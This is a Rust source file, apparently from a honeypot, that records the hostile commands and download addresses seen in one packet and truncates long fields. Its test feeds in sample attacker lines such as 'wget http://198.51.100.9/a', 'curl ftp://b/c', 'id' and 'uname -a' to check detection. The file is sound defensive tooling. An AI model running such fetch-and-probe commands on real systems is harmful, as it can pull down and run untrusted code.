//! What somebody did with one packet, kept as he said it until it is told.

use crate::{FIELD_BYTES_MAX, Findings, shell::downloads};
use alloc::{format, vec::Vec};
use honeymesh_types::Signs;

/// What is kept of the acts of one kind, in bytes: one more than a field can hold, so that a cut shows.
const KEPT_BYTES_MAX: usize = FIELD_BYTES_MAX + 1;
/// What stands where a field was cut.
const CUT: char = '…';

/// The hostile acts of one packet, by kind. Fields are written from them once: a text that was made safe must not be made so again.
#[derive(Default)]
pub(super) struct Acts(Vec<Act>);

struct Act {
    name: &'static str,
    said: Vec<u8>,
    count: usize,
}

impl Acts {
    /// Takes an act down, to be told at once; further ones of a kind behind the first.
    pub(super) fn note(&mut self, name: &'static str, value: &[u8]) {
        let act = match self.0.iter_mut().position(|act| act.name == name) {
            Some(at) => &mut self.0[at],
            None => {
                self.0.push(Act { name, said: Vec::new(), count: 0 });
                let last = self.0.len() - 1;
                &mut self.0[last]
            }
        };
        let joint: &[u8] = if act.count == 0 { b"" } else { b"; " };
        let room = KEPT_BYTES_MAX.saturating_sub(act.said.len());
        act.said.extend(joint.iter().chain(value).take(room));
        act.count += 1;
    }

    pub(super) const fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Takes over what was taken down elsewhere.
    pub(super) fn absorb(&mut self, others: Self) {
        for act in others.0 {
            self.note(act.name, &act.said);
        }
    }

    /// The same with a command, and the addresses in it.
    pub(super) fn command(&mut self, command: &[u8]) {
        self.note("command", command);
        let addresses = downloads(command);
        if !addresses.is_empty() {
            self.note("download", &addresses.join(&b' '));
        }
    }

    /// Addresses that a command led to, but for those that stand in it.
    pub(super) fn addresses(&mut self, command: &[u8], addresses: Vec<Vec<u8>>) {
        for address in addresses {
            if !downloads(command).contains(&address.as_slice()) {
                self.note("download", &address);
            }
        }
    }

    /// Writes the fields; `false` if there were no acts. Where not all commands fit, `commands` says how many there were.
    pub(super) fn tell(&self, findings: &mut Findings) -> bool {
        for act in &self.0 {
            findings.note(act.name, &act.said);
            let is_cut = findings.fields.get(act.name).is_some_and(|told| told.ends_with(CUT));
            if act.name == "command" && act.count > 1 && is_cut {
                findings.note("commands", format!("{}", act.count).as_bytes());
            }
        }
        if !self.0.is_empty() {
            findings.signs |= Signs::RULE;
        }
        if self.0.iter().any(|act| act.name == "upload") {
            findings.signs |= Signs::UPLOAD;
        }
        !self.0.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_as_they_were_said_and_how_many_there_were() {
        let mut acts = Acts::default();
        [&b"echo \xff\x01\\u{1}"[..], b"wget http://198.51.100.9/a", b"id", b"curl ftp://b/c"]
            .iter()
            .for_each(|line| acts.command(line));
        let mut findings = Findings::default();
        assert!(acts.tell(&mut findings) && findings.signs == Signs::RULE);
        let told = r"echo \u{dcff}\u{1}\u{5c}u{1}; wget http://198.51.100.9/a; id; curl ftp://b/c";
        assert_eq!(findings.fields["command"], told);
        assert_eq!(findings.fields["download"], "http://198.51.100.9/a; ftp://b/c");
        assert!(!findings.fields.contains_key("commands"), "all are there");
        (0..200).for_each(|_| acts.command(b"uname -a"));
        acts.tell(&mut findings);
        assert!(findings.fields["command"].starts_with(told) && findings.fields["command"].ends_with(CUT));
        assert_eq!((findings.fields["commands"].as_str(), acts.0[0].said.len()), ("204", KEPT_BYTES_MAX));
        assert!(!Acts::default().tell(&mut findings));
    }
}
